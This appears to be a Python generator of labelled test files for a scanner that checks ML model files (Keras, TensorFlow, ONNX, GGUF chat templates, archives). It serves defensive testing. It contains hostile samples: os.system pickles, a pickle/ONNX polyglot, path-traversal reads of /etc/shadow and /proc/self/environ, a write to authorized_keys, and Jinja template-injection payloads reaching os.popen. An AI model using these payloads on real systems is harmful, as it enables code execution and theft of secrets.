        "activation-module-keras-name-dotted": with_layer({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d9", "units": 2, "activation": fn("keras", "utils.get_file")}, "registered_name": None}),
        "kernel-initializer-os": with_layer({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d9", "units": 2, "kernel_initializer": {"module": "os", "class_name": "system", "config": {}, "registered_name": None}}, "registered_name": None}),
        "nested-functional": None,
        "compile-config-loss-module": None,
        "subprocess-in-regularizer": with_layer({"module": "keras.layers", "class_name": "Dense", "config": {"name": "d9", "units": 2, "kernel_regularizer": {"module": "subprocess", "class_name": "Popen", "config": {"args": "id"}, "registered_name": None}}, "registered_name": None}),
        "lambda-in-timedistributed": with_layer({"module": "keras.layers", "class_name": "TimeDistributed", "config": {"name": "td", "layer": {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}}, "registered_name": None}}, "registered_name": None}),
    }
    import base64

    torch_pickle_b64 = base64.b64encode(call("os", "system", "id", protocol=2)).decode()
    variants["torch-module-wrapper"] = with_layer({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "tw", "module": torch_pickle_b64, "output_shape": None}, "registered_name": None})
    variants["tfsm-layer-remote"] = with_layer({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "sm", "filepath": "gs://attacker-bucket/model", "call_endpoint": "serve"}, "registered_name": None})
    nested = json.loads(json.dumps(cfg))
    inner = json.loads(json.dumps(cfg))
    inner["config"]["layers"].append({"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"})
    nested["config"]["layers"].append(inner)
    variants["nested-functional"] = nested
    c = json.loads(json.dumps(cfg))
    c["compile_config"] = {"optimizer": "adam", "loss": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}, "metrics": None}
    variants["compile-config-loss-module"] = c
    for name, conf in variants.items():
        w("malicious", f"keras2/{name}.keras", g.keras_archive(conf), "keras", f"FLAGGED: {name} — Keras config deserialises a non-Keras function or layer")
    # .h5 with the config as a variable-length string attribute, and one over 64 KiB (dense attribute storage)
    import tempfile

    import h5py

    lam = {"class_name": "Lambda", "config": {"name": "lam", "function": ["4wEAAAAAAAAAAAAAAAEAAAAFAAAAQwAAAHMOAAAAdABkAYMBAQB8AFMAKQJO", None, None], "function_type": "lambda"}}
    for name, pad in [("vlen-attr", 0), ("dense-attr-64k", 70000)]:
        with tempfile.TemporaryDirectory() as d:
            p = d + "/m.h5"
            g.keras_model().save(p)
            with h5py.File(p, "r+") as f:
                cfg_text = f.attrs["model_config"]
                cfg_text = cfg_text.decode() if isinstance(cfg_text, bytes) else cfg_text
                mc = json.loads(cfg_text)
                mc["config"]["layers"].append(lam)
                if pad:
                    mc["config"]["padding_note"] = "x" * pad
                del f.attrs["model_config"]
                f.attrs.create("model_config", json.dumps(mc), dtype=h5py.string_dtype("utf-8"))
            with open(p, "rb") as fh:
                w("malicious", f"keras2/{name}.h5", fh.read(), "keras", f"DANGEROUS: Lambda — legacy .h5 whose model_config is a {name}", stable=False)


# ------------------------------------------------------------------------------------------------------
# TensorFlow
# ------------------------------------------------------------------------------------------------------


def write_tf_paths(g):
    w = g.write
    cases = {
        "summary-writer": [("x", "Placeholder"), ("w", "CreateSummaryFileWriter"), ("s", "WriteScalarSummary")],
        "dataset-to-tfrecord": [("x", "Placeholder"), ("w", "DatasetToTFRecord")],
        "save-dataset": [("x", "Placeholder"), ("w", "SaveDatasetV2")],
        "debug-identity": [("x", "Placeholder"), ("d", "DebugIdentityV2")],
        "whole-file-reader": [("r", "WholeFileReaderV2"), ("rd", "ReaderReadV2")],
        "sql-dataset": [("s", "SqlDataset")],
        "textline-dataset": [("s", "TextLineDataset")],
    }
    for name, nodes in cases.items():
        w("malicious", f"tf2/{name}/saved_model.pb", g.saved_model_bytes(nodes), "tf", f"FLAGGED: {nodes[-1][1]} — TensorFlow op that reads or writes files")
    mg = g.meta_graph([("x", "Placeholder"), ("p", "PrintV2")])
    mg.graph_def.node[1].attr["output_stream"].s = b"file:///root/.ssh/authorized_keys"
    mgb = mg.SerializeToString()
    w("malicious", "tf2/printv2-file/saved_model.pb", b"\x08\x01\x12" + g.varint(len(mgb)) + mgb, "tf", "FLAGGED: PrintV2 — tf.print to a file:// output stream appends to a file on the node")
    mg = g.meta_graph([("x", "Placeholder"), ("p", "PrintV2")])
    mg.graph_def.node[1].attr["output_stream"].s = b"stderr"
    mgb = mg.SerializeToString()
    w("benign", "tf2/printv2-stderr/saved_model.pb", b"\x08\x01\x12" + g.varint(len(mgb)) + mgb, "tf", "CLEAN: tf.print to stderr (PrintV2 with its default output stream)")
    w("malicious", "tf2/pyfunc-second-metagraph/saved_model.pb", g.saved_model_bytes([("x", "Placeholder")]) + b"\x12" + g.varint(len(g.meta_graph([("p", "EagerPyFunc")]).SerializeToString())) + g.meta_graph([("p", "EagerPyFunc")]).SerializeToString(), "tf", "DANGEROUS: EagerPyFunc — in a second MetaGraphDef")
    w("malicious", "tf2/graph-def-library/frozen.pb", graph_with_function(g, "PyFunc"), "tf", "DANGEROUS: PyFunc — in a GraphDef library function (frozen graph)")
    txt = b'node {\n  name: "p"\n  op: \'Py\' "Func"\n}\nversions { producer: 1882 }\n'
    w("malicious", "tf2/graph.pbtxt", txt, "tf", "DANGEROUS: PyFunc — GraphDef in text format (single-quoted split literal)")
    txt = b'node {\n  name: "p"\n  op: "\\x50yFunc"\n}\n'
    w("malicious", "tf2/hex-escape/graph.pbtxt", txt, "tf", "DANGEROUS: PyFunc — GraphDef text format with a \\x escape")


def graph_with_function(g, op):
    from tensorboard.compat.proto import function_pb2, graph_pb2

    gd = graph_pb2.GraphDef()
    gd.node.extend(g.node_defs([("x", "Placeholder"), ("c", "PartitionedCall")]))
    f = function_pb2.FunctionDef()
    f.signature.name = "f"
    f.node_def.extend(g.node_defs([("p", op)]))
    gd.library.function.append(f)
    return gd.SerializeToString()


# ------------------------------------------------------------------------------------------------------
# ONNX
# ------------------------------------------------------------------------------------------------------


def write_onnx_paths(g):
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = g.write

    def ext_tensor(name, location, extra=None):
        t = numpy_helper.from_array(np.ones((2, 2), dtype=np.float32), name)
        t.ClearField("raw_data")
        t.data_location = TensorProto.EXTERNAL
        for k, v in extra or []:
            t.external_data.add(key=k, value=v)
        t.external_data.add(key="location", value=location)
        return t

    def model(graph, **kw):
        return helper.make_model(graph, producer_name="x", opset_imports=[helper.make_opsetid("", 17)], **kw).SerializeToString()

    io_ = ([helper.make_tensor_value_info("x", TensorProto.FLOAT, [2, 2])], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2, 2])])
    # location written twice: onnx and onnxruntime keep the last
    t = ext_tensor("w", "../../../etc/passwd", extra=[("location", "weights.bin")])
    t2 = onnx.TensorProto()
    t2.CopyFrom(t)
    del t2.external_data[:]
    t2.external_data.add(key="location", value="weights.bin")
    t2.external_data.add(key="location", value="../../../etc/passwd")
    gr = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", *io_, [t2])
    w("malicious", "onnx2/location-twice.onnx", model(gr), "onnx", "DANGEROUS: external data location given twice, the last one (kept by onnx and onnxruntime) leaves the model directory")
    # Constant node attribute tensor with external data
    const = helper.make_node("Constant", [], ["w"], value=ext_tensor("c", "/etc/shadow"))
    gr = helper.make_graph([const, helper.make_node("Add", ["x", "w"], ["y"])], "g", *io_)
    w("malicious", "onnx2/constant-attr-external.onnx", model(gr), "onnx", "DANGEROUS: external data of a Constant node's tensor attribute at an absolute path")
    # sparse initializer with external values
    sp = helper.make_sparse_tensor(ext_tensor("sv", "../secrets"), numpy_helper.from_array(np.array([0], dtype=np.int64), "si"), [2, 2])
    gr = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "g", *io_, sparse_initializer=[sp])
    w("malicious", "onnx2/sparse-initializer-external.onnx", model(gr), "onnx", "DANGEROUS: sparse initializer values with external data outside the directory")
    # training_info initializer
    ti = onnx.TrainingInfoProto()
    ti.initialization.CopyFrom(helper.make_graph([], "init", [], [], [ext_tensor("ti", "../../x")]))
    gr = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "g", *io_)
    m = helper.make_model(gr, producer_name="x", opset_imports=[helper.make_opsetid("", 17)])
    m.training_info.append(ti)
    w("malicious", "onnx2/training-info-external.onnx", m.SerializeToString(), "onnx", "DANGEROUS: training_info initializer with external data outside the directory")
    # If-node subgraph in a function body
    sub = helper.make_graph([], "then", [], [helper.make_tensor_value_info("w", TensorProto.FLOAT, [2, 2])], [ext_tensor("w", "..\\..\\windows\\win.ini")])
    iff = helper.make_node("If", ["cond"], ["y"], then_branch=sub, else_branch=sub)
    fn = helper.make_function("local", "F", ["cond"], ["y"], [iff], [helper.make_opsetid("", 17)])
    gr = helper.make_graph([helper.make_node("F", ["x"], ["y"], domain="local")], "g", *io_)
    m = helper.make_model(gr, producer_name="x", opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local", 1)], functions=[fn])
    w("malicious", "onnx2/function-subgraph-backslash.onnx", m.SerializeToString(), "onnx", "DANGEROUS: external data with a backslash traversal in a subgraph of a model-local function")
    # custom operators: a Python op (onnxruntime-extensions PyOp) and an operator of an unknown domain
    gr = helper.make_graph([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")], "g", *io_)
    w("malicious", "onnx2/python-op.onnx", helper.make_model(gr, producer_name="x", opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.contrib", 1)]).SerializeToString(), "onnx", "DANGEROUS: PyOp — an ONNX node that calls Python in the serving process")
    gr = helper.make_graph([helper.make_node("RunShell", ["x"], ["y"], domain="com.attacker.ops")], "g", *io_)
    w("malicious", "onnx2/custom-domain-op.onnx", helper.make_model(gr, producer_name="x", opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker.ops", 1)]).SerializeToString(), "onnx", "FLAGGED: RunShell — an operator of a domain no runtime defines (native code from a custom-op library)")
    gr = helper.make_graph([helper.make_node("Relu", ["x"], ["h"]), helper.make_node("TreeEnsembleRegressor", ["h"], ["y"], domain="ai.onnx.ml", n_targets=1, nodes_treeids=[0], nodes_nodeids=[0], nodes_featureids=[0], nodes_values=[0.0], nodes_modes=["LEAF"], nodes_truenodeids=[0], nodes_falsenodeids=[0], target_treeids=[0], target_nodeids=[0], target_ids=[0], target_weights=[1.0])], "g", *io_)
    w("benign", "onnx2/ml-domain.onnx", helper.make_model(gr, producer_name="x", opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 3)]).SerializeToString(), "onnx", "CLEAN: ONNX with ai.onnx.ml operators (as sklearn-onnx writes)")
    w("malicious", "onnx2/absolute-named.pb", model(helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", *io_, [ext_tensor("w", "/proc/self/environ")])), "onnx", "DANGEROUS: ONNX named .pb reading /proc/self/environ as external data")
    # a pickle that is also an ONNX model: unknown protobuf field 32 swallows the payload
    evil = pa.body(call("os", "system", "id", protocol=0))
    rest = pa.POP + evil + pa.STOP
    # PROTO 2 | tag(32,varint)=0x80 0x02 ; 'J' is varint 74 ; BININT's 4 bytes: tag(32,LEN) 0x82 0x02 + 2-byte length
    length = len(rest)
    assert length < 0x4000
    lb = bytes([(length & 0x7F) | 0x80, length >> 7])
    poly = b"\x80\x02" + b"J" + b"\x82\x02" + lb + rest
    onnx_model = model(helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g", *io_))
    w("malicious", "onnx2/pickle-polyglot.onnx", poly + onnx_model, "onnx", "DANGEROUS: os.system — a valid ONNX model that torch.load/pickle.load also reads as a pickle")


# ------------------------------------------------------------------------------------------------------
# chat templates
# ------------------------------------------------------------------------------------------------------

SSTI = {
    "multiply-underscores": "{{ ()|attr(('_' * 2) ~ 'class' ~ ('_' * 2)) }}",
    "lower-filter": "{{ ()|attr('__CLASS__'|lower) }}",
    "upper-method": "{{ ()[('__class__').upper().lower()] }}",
    "set-block": "{% set n %}__class__{% endset %}{{ ()|attr(n) }}",
    "set-block-subscript": "{% set n %}__globals__{% endset %}{{ cycler.__init__[n] if false else cycler[n] }}",
    "macro-param-subscript": "{% macro m(n) %}{{ ()[n] }}{% endmacro %}{{ m('__class__') }}",
    "namespace-attr": "{% set ns = namespace(a='__cla' ~ 'ss__') %}{{ ()[ns.a] }}",
    "dict-value": "{% set d = {'k': '__class__'} %}{{ ()[d.k] }}",
    "dict-kwargs-keys": "{{ ()[dict(__class__=1)|list|first] }}",
    "with-block": "{% with n = '__subclasses__' %}{{ ''.__class__.__mro__[1][n]() }}{% endwith %}",
    "format-percent-s": "{{ ()|attr('%s%sclass%s%s'|format('_','_','_','_')) }}",
    "slice-positive": "{{ ()|attr('x__class__x'[1:10]) }}",
    "reverse-filter": "{{ ()|attr('__ssalc__'|reverse|join) }}",
    "adjacent-literals": "{{ ()|attr('__cl' 'ass__') }}",
    "cycler-init-globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "joiner-globals": "{{ joiner.__init__.__globals__ }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "loop-class": "{% for x in [1] %}{{ loop.__class__.__mro__ }}{% endfor %}",
    "map-attribute-computed": "{{ [()]|map(attribute='__cla' ~ 'ss__')|list }}",
    "selectattr-dunder": "{{ [()]|selectattr('__class__')|list }}",
    "trim-filter": "{{ ()|attr('  __class__  '|trim) }}",
    "string-replace-method": "{{ ()|attr('_-_class_-_'.replace('-', '_')) }}",
    "request-globals": "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "self-context": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "join-list-chars": "{{ ()|attr(['_','_','c','l','a','s','s','_','_']|join('')) }}",
    "center-trim": "{{ ()|attr('__class__'|center(20)|trim) }}",
    "chr-via-format-c": "{{ ()|attr('%c%cclass%c%c'|format(95,95,95,95)) }}",
    "macro-param-subscript-call": "{% macro m(n) %}{{ ()[n] }}{% endmacro %}{% call m('__class__') %}{% endcall %}",
    "dict-items-loop": "{% for k, v in {'a': '__class__'}.items() %}{{ ()|attr(v) }}{% endfor %}",
    "tuple-unpack-set": "{% set a, b = '__class__', 1 %}{{ ()|attr(a) }}",
    "groupby-dunder": "{{ messages|groupby('__class__') }}",
    "filter-block-attr": "{% filter attr('__class__') %}x{% endfilter %}",
    "include-file": "{% include '/etc/passwd' %}",
    "import-template": "{% import '../../secrets.j2' as s %}{{ s.x }}",
}


def write_template_paths(g):
    w = g.write
    for name, tpl in SSTI.items():
        w("malicious", f"gguf2/{name}.gguf", g.gguf_bytes({"tokenizer.chat_template": tpl}), "gguf", f"{'FLAGGED' if name.startswith(('include', 'import')) else 'DANGEROUS'}: chat-template injection — {name}")
    tpl = SSTI["set-block"]
    w("malicious", "gguf2/tokenizer_config-list/tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": tpl}]}).encode(), "gguf", "DANGEROUS: chat-template injection — second named template of a tokenizer_config.json list")
    w("malicious", "gguf2/chat_template-json/chat_template.json", json.dumps({"chat_template": tpl}).encode(), "gguf", "DANGEROUS: chat-template injection — processor chat_template.json")
    w("malicious", "gguf2/additional/additional_chat_templates/tool_use.jinja", tpl.encode(), "gguf", "DANGEROUS: chat-template injection — additional_chat_templates/*.jinja")


# ------------------------------------------------------------------------------------------------------
# polyglots, names, bombs
# ------------------------------------------------------------------------------------------------------


def write_misc(g):
    w = g.write
    evil = call("os", "system", "id", protocol=2)
    for name in ["model.safetensors", "model.onnx", "model.h5", "model.gguf", "tokenizer.model", "model.tflite", "model.msgpack", "README.md", "model.ckpt"]:
        w("malicious", f"names/{name}", evil, "pickle-content", f"DANGEROUS: os.system — a pickle named {name}")
    w("malicious", "names/gz-no-ext", gzip.compress(evil, mtime=0), "compression", "DANGEROUS: os.system — gzip stream without extension")
    w("malicious", "names/zlib-joblib-named.h5", zlib.compress(evil), "compression", "DANGEROUS: os.system — zlib stream named .h5")
    w("malicious", "nested/zip-tar-gz.tar.gz", gzip.compress(g.tar_bytes([("a/inner.zip", g.zip_bytes([("b/model.pkl", evil)]), tarfile.REGTYPE)]), mtime=0), "nested", "DANGEROUS: os.system — pickle in a zip in a tar in gzip")
    w("malicious", "nested/gz-in-zip.zip", g.zip_bytes([("model.pkl.gz", gzip.compress(evil, mtime=0))]), "nested", "DANGEROUS: os.system — gzip member of a zip")
    w("malicious", "nested/npz-in-tar.tar", g.tar_bytes([("arrays.npz", g.zip_bytes([("a.npy", GEN.npy_with_header("{'descr': '|O', 'fortran_order': False, 'shape': (1,)}", evil))]), tarfile.REGTYPE)]), "nested", "DANGEROUS: os.system — object .npy in an .npz in a tar")
    deep = evil
    for i in range(6):
        deep = g.zip_bytes([(f"l{i}.zip" if i else "m.pkl", deep)])
    w("malicious", "nested/zip-depth-6.zip", deep, "nested", "FLAGGED or REJECT: os.system — six levels of zip")


# ------------------------------------------------------------------------------------------------------
# benign: a wider scikit-learn zoo, named columns, np.savez, ONNX external data, TF variables, tokenizer.model
# ------------------------------------------------------------------------------------------------------


def sklearn_zoo():
    import warnings

    warnings.filterwarnings("ignore")
    from sklearn import calibration, cluster, compose, covariance, cross_decomposition, decomposition, discriminant_analysis, ensemble, feature_extraction, feature_selection, impute, isotonic, kernel_ridge, linear_model, manifold, mixture, model_selection, multiclass, multioutput, naive_bayes, neighbors, pipeline, preprocessing, semi_supervised, svm, tree
    from sklearn.datasets import make_classification, make_regression
    from sklearn.experimental import enable_iterative_imputer  # noqa: F401

    X, y = make_classification(n_samples=120, n_features=6, n_informative=3, random_state=1)
    Xp = np.abs(X)
    Xr, yr = make_regression(n_samples=120, n_features=6, random_state=1)
    texts = ["the cat sat", "the dog ran", "a cat ran", "dogs and cats", "the end"] * 4
    ty = [0, 1, 0, 1, 0] * 4
    rs = np.random.RandomState(0)
    m = {
        "gridsearch_svc": (model_selection.GridSearchCV(svm.SVC(), {"C": [0.1, 1.0]}, cv=2), X, y),
        "randomized_search_ridge": (model_selection.RandomizedSearchCV(linear_model.Ridge(), {"alpha": [0.1, 1.0, 10.0]}, n_iter=2, cv=2, random_state=0), Xr, yr),
        "function_transformer_log1p": (pipeline.make_pipeline(preprocessing.FunctionTransformer(np.log1p), linear_model.LogisticRegression()), Xp, y),
        "transformed_target": (compose.TransformedTargetRegressor(regressor=linear_model.LinearRegression(), func=np.log1p, inverse_func=np.expm1), Xr, np.abs(yr)),
        "calibrated_classifier": (calibration.CalibratedClassifierCV(svm.LinearSVC(), cv=2), X, y),
        "calibrated_isotonic": (calibration.CalibratedClassifierCV(naive_bayes.GaussianNB(), method="isotonic", cv=2), X, y),
        "voting_classifier": (ensemble.VotingClassifier([("lr", linear_model.LogisticRegression()), ("dt", tree.DecisionTreeClassifier(max_depth=2))], voting="soft"), X, y),
        "stacking_regressor": (ensemble.StackingRegressor([("r", linear_model.Ridge()), ("k", neighbors.KNeighborsRegressor())], cv=2), Xr, yr),
        "hist_gb_classifier_categorical": (ensemble.HistGradientBoostingClassifier(max_iter=5, categorical_features=[0]), np.c_[np.arange(120) % 3, X[:, 1:]], y),
        "random_forest_regressor_rs": (ensemble.RandomForestRegressor(n_estimators=3, max_depth=3, random_state=rs), Xr, yr),
        "bagging": (ensemble.BaggingClassifier(n_estimators=3, random_state=0), X, y),
        "gradient_boosting_regressor_huber": (ensemble.GradientBoostingRegressor(n_estimators=3, loss="huber"), Xr, yr),
        "knn_imputer": (impute.KNNImputer(), X, None),
        "iterative_imputer": (impute.IterativeImputer(max_iter=2, random_state=0), X, None),
        "simple_imputer_indicator": (impute.SimpleImputer(add_indicator=True), np.where(X > 1.5, np.nan, X), None),
        "quantile_transformer": (preprocessing.QuantileTransformer(n_quantiles=20), X, None),
        "power_transformer": (preprocessing.PowerTransformer(), X, None),
        "polynomial_features": (preprocessing.PolynomialFeatures(2), X, None),
        "kbins_discretizer": (preprocessing.KBinsDiscretizer(n_bins=3, encode="ordinal"), X, None),
        "robust_minmax": (pipeline.make_pipeline(preprocessing.RobustScaler(), preprocessing.MinMaxScaler(), preprocessing.Normalizer()), X, None),
        "ordinal_encoder": (preprocessing.OrdinalEncoder(), np.array([["a"], ["b"], ["c"]] * 4, dtype=object), None),
        "target_encoder": (preprocessing.TargetEncoder(), np.array([["a"], ["b"], ["c"]] * 20, dtype=object), np.arange(60) % 2),
        "label_binarizer": (preprocessing.LabelBinarizer(), [0, 1, 2, 1], None),
        "multilabel_binarizer": (preprocessing.MultiLabelBinarizer(), [["a", "b"], ["c"]], None),
        "select_kbest_chi2": (pipeline.make_pipeline(feature_selection.SelectKBest(feature_selection.chi2, k=3), naive_bayes.MultinomialNB()), Xp, y),
        "select_from_model": (feature_selection.SelectFromModel(linear_model.Lasso()), Xr, yr),
        "rfe": (feature_selection.RFE(linear_model.LogisticRegression(), n_features_to_select=2), X, y),
        "variance_threshold": (feature_selection.VarianceThreshold(), X, None),
        "svr": (svm.SVR(), Xr, yr),
        "nu_svc": (svm.NuSVC(), X, y),
        "one_class_svm": (svm.OneClassSVM(), X, None),
        "linear_svr": (svm.LinearSVR(), Xr, yr),
        "lof_novelty": (neighbors.LocalOutlierFactor(novelty=True), X, None),
        "nearest_neighbors_brute": (neighbors.NearestNeighbors(algorithm="brute"), X, None),
        "radius_neighbors": (neighbors.RadiusNeighborsClassifier(radius=10.0), X, y),
        "nearest_centroid": (neighbors.NearestCentroid(), X, y),
        "gaussian_mixture": (mixture.GaussianMixture(n_components=2, random_state=0), X, None),
        "bayesian_gmm": (mixture.BayesianGaussianMixture(n_components=2, random_state=0, max_iter=20), X, None),
        "nmf": (decomposition.NMF(n_components=2, random_state=0, max_iter=50), Xp, None),
        "lda_topics": (decomposition.LatentDirichletAllocation(n_components=2, random_state=0, max_iter=2), Xp, None),
        "fast_ica": (decomposition.FastICA(n_components=2, random_state=0), X, None),
        "kernel_pca": (decomposition.KernelPCA(n_components=2, kernel="rbf"), X, None),
        "lda": (discriminant_analysis.LinearDiscriminantAnalysis(), X, y),
        "qda": (discriminant_analysis.QuadraticDiscriminantAnalysis(reg_param=0.1), X, y),
        "elastic_net_cv": (linear_model.ElasticNetCV(cv=2), Xr, yr),
        "logistic_cv": (linear_model.LogisticRegressionCV(cv=2, max_iter=200), X, y),
        "bayesian_ridge": (linear_model.BayesianRidge(), Xr, yr),
        "huber": (linear_model.HuberRegressor(), Xr, yr),
        "poisson": (linear_model.PoissonRegressor(), Xr, np.abs(yr)),
        "tweedie": (linear_model.TweedieRegressor(power=1.5), Xr, np.abs(yr)),
        "quantile_regressor": (linear_model.QuantileRegressor(alpha=0.0, solver="highs"), Xr[:40], yr[:40]),
        "perceptron": (linear_model.Perceptron(), X, y),
        "passive_aggressive": (linear_model.PassiveAggressiveClassifier(), X, y),
        "sgd_regressor": (linear_model.SGDRegressor(), Xr, yr),
        "ransac": (linear_model.RANSACRegressor(random_state=0), Xr, yr),
        "kernel_ridge": (kernel_ridge.KernelRidge(), Xr, yr),
        "pls": (cross_decomposition.PLSRegression(n_components=2), Xr, yr),
        "isotonic": (isotonic.IsotonicRegression(), Xr[:, 0], yr),
        "one_vs_rest": (multiclass.OneVsRestClassifier(linear_model.LogisticRegression()), X, np.arange(120) % 3),
        "multi_output": (multioutput.MultiOutputRegressor(linear_model.Ridge()), Xr, np.c_[yr, yr]),
        "classifier_chain": (multioutput.ClassifierChain(linear_model.LogisticRegression()), X, np.c_[y, 1 - y]),
        "dbscan": (cluster.DBSCAN(), X, None),
        "agglomerative": (cluster.AgglomerativeClustering(n_clusters=2), X, None),
        "minibatch_kmeans": (cluster.MiniBatchKMeans(n_clusters=2, random_state=0, n_init=1), X, None),
        "mean_shift": (cluster.MeanShift(), X[:40], None),
        "elliptic_envelope": (covariance.EllipticEnvelope(random_state=0), X, None),
        "isomap": (manifold.Isomap(n_components=2), X, None),
        "label_spreading": (semi_supervised.LabelSpreading(), X, np.where(np.arange(120) % 4 == 0, -1, y)),
        "feature_union": (pipeline.FeatureUnion([("pca", decomposition.PCA(2)), ("sel", feature_selection.SelectKBest(k=2))]), X, y),
        "hashing_tfidf": (pipeline.make_pipeline(feature_extraction.text.HashingVectorizer(n_features=64), feature_extraction.text.TfidfTransformer(), linear_model.SGDClassifier()), texts, ty),
        "dict_vectorizer": (feature_extraction.DictVectorizer(), [{"a": 1, "b": 2}, {"c": 3}], None),
        "tfidf_char_ngrams": (feature_extraction.text.TfidfVectorizer(analyzer="char_wb", ngram_range=(2, 3), dtype=np.float32), texts, None),
        "extra_tree_single": (tree.ExtraTreeRegressor(max_depth=3, random_state=0), Xr, yr),
        "decision_tree_regressor_mae": (tree.DecisionTreeRegressor(max_depth=3, criterion="absolute_error"), Xr, yr),
        "adaboost_regressor": (ensemble.AdaBoostRegressor(n_estimators=3, random_state=0), Xr, yr),
        "hist_gb_regressor_quantile": (ensemble.HistGradientBoostingRegressor(max_iter=3, loss="quantile", quantile=0.9), Xr, yr),
    }
    out = {}
    for name, (est, a, b) in m.items():
        est.fit(a) if b is None else est.fit(a, b)
        out[name] = est
    # estimators fitted on named columns keep feature_names_in_ as an object array of str (pandas DataFrames)
    for name in ["gridsearch_svc", "random_forest_regressor_rs", "hist_gb_classifier_categorical", "robust_minmax"]:
        est = out[name]
        steps = [s for _, s in est.steps] if hasattr(est, "steps") else [est]
        for s in steps:
            s.feature_names_in_ = np.array([f"col_{i}" for i in range(6)], dtype=object)
    ct = compose.ColumnTransformer([("num", preprocessing.StandardScaler(), [0, 1]), ("cat", preprocessing.OneHotEncoder(handle_unknown="ignore", sparse_output=False), [2])], remainder="passthrough")
    Xc = np.array([[1.0, 2.0, "a", 3], [2.0, 1.0, "b", 4], [3.0, 0.5, "a", 5]] * 5, dtype=object)
    ct.fit(Xc)
    ct.feature_names_in_ = np.array(["age", "income", "city", "n"], dtype=object)
    out["column_transformer_named"] = ct
    return out


def write_benign_zoo(g):
    import sys

    import joblib

    w = g.write
    with without_fake_torch():
        models = sklearn_zoo()
    protos = [0, 1, 2, 3, 4, 5]
    for i, (name, est) in enumerate(models.items()):
        buf = io.BytesIO()
        joblib.dump(est, buf, compress=3 if i % 5 == 4 else 0)
        w("benign", f"sklearn2/{name}.joblib", buf.getvalue(), "sklearn", f"CLEAN: scikit-learn {type(est).__name__} ({name}) saved with joblib.dump", stable=False)
        p = protos[i % len(protos)]
        w("benign", f"sklearn2-pickle/{name}.pkl", pickle.dumps(est, protocol=p), "sklearn", f"CLEAN: scikit-learn {type(est).__name__} ({name}) pickled with protocol {p}", stable=False)
    # numpy: real np.savez output (zip64 extras), masked arrays, datetime, complex, records
    rng = np.random.default_rng(1)
    buf = io.BytesIO()
    np.savez(buf, w=rng.standard_normal((3, 3)), b=np.arange(3))
    w("benign", "numpy2/savez-real.npz", buf.getvalue(), "numpy", "CLEAN: np.savez output as numpy writes it (zip64 local extras, timestamps)", stable=False)
    buf = io.BytesIO()
    np.savez_compressed(buf, w=rng.standard_normal((3, 3)))
    w("benign", "numpy2/savez-compressed-real.npz", buf.getvalue(), "numpy", "CLEAN: np.savez_compressed output as numpy writes it", stable=False)
    for name, a in {
        "datetime.npy": np.array(["2024-01-01", "2024-02-01"], dtype="M8[D]"),
        "complex.npy": np.arange(4, dtype=np.complex64),
        "nested-struct.npy": np.zeros(2, dtype=[("a", [("b", "<f4", (2,)), ("c", "u1")]), ("d", "S3")]),
        "float16-fortran-3d.npy": np.asfortranarray(np.zeros((2, 3, 4), dtype=np.float16)),
        "empty.npy": np.zeros((0, 5), dtype=np.float32),
    }.items():
        buf = io.BytesIO()
        np.save(buf, a)
        w("benign", f"numpy2/{name}", buf.getvalue(), "numpy", f"CLEAN: np.save of a {a.dtype} array")
    for p in [2, 5]:
        w("benign", f"numpy2/masked-array-p{p}.pkl", pickle.dumps(np.ma.masked_array([1.0, 2.0, 3.0], mask=[0, 1, 0]), protocol=p), "numpy", "CLEAN: numpy masked array pickled", stable=False)
        w("benign", f"numpy2/random-state-p{p}.pkl", pickle.dumps({"rs": np.random.RandomState(0), "gen": np.random.default_rng(0)}, protocol=p), "numpy", "CLEAN: numpy RandomState and Generator pickled", stable=False)
        w("benign", f"numpy2/scalars-p{p}.pkl", pickle.dumps({"a": np.float32(1.5), "b": np.int64(3), "c": np.bool_(True), "d": np.dtype("<U5"), "e": np.datetime64("2024-01-01")}, protocol=p), "numpy", "CLEAN: numpy scalars and dtypes pickled", stable=False)
    import datetime
    import decimal
    import uuid
    from collections import deque

    meta = {"trained_at": datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.timezone.utc), "day": datetime.date(2024, 1, 2), "took": datetime.timedelta(minutes=3), "score": decimal.Decimal("0.975"), "run": uuid.UUID(int=7), "recent": deque([1, 2], maxlen=5)}
    for p in [2, 4]:
        w("benign", f"numpy2/metadata-p{p}.pkl", pickle.dumps(meta, protocol=p), "sklearn", "CLEAN: model metadata (datetime, Decimal, UUID, deque) pickled")
    # joblib with memory-mapping alignment and lists of arrays; a dict of arrays (the common "artifacts" file)
    buf = io.BytesIO()
    joblib.dump({"emb": rng.standard_normal((5, 4)).astype(np.float32), "ids": np.arange(5), "names": ["a", "b"], "meta": {"v": 1}}, buf)
    w("benign", "sklearn2/artifacts-dict.joblib", buf.getvalue(), "sklearn", "CLEAN: joblib.dump of a dict of arrays and plain data", stable=False)
    # ONNX external data file and TF variables
    w("benign", "formats2/onnx-external/model.onnx_data", rng.standard_normal(64).astype(np.float32).tobytes(), "onnx", "CLEAN: raw ONNX external tensor data (no header)")
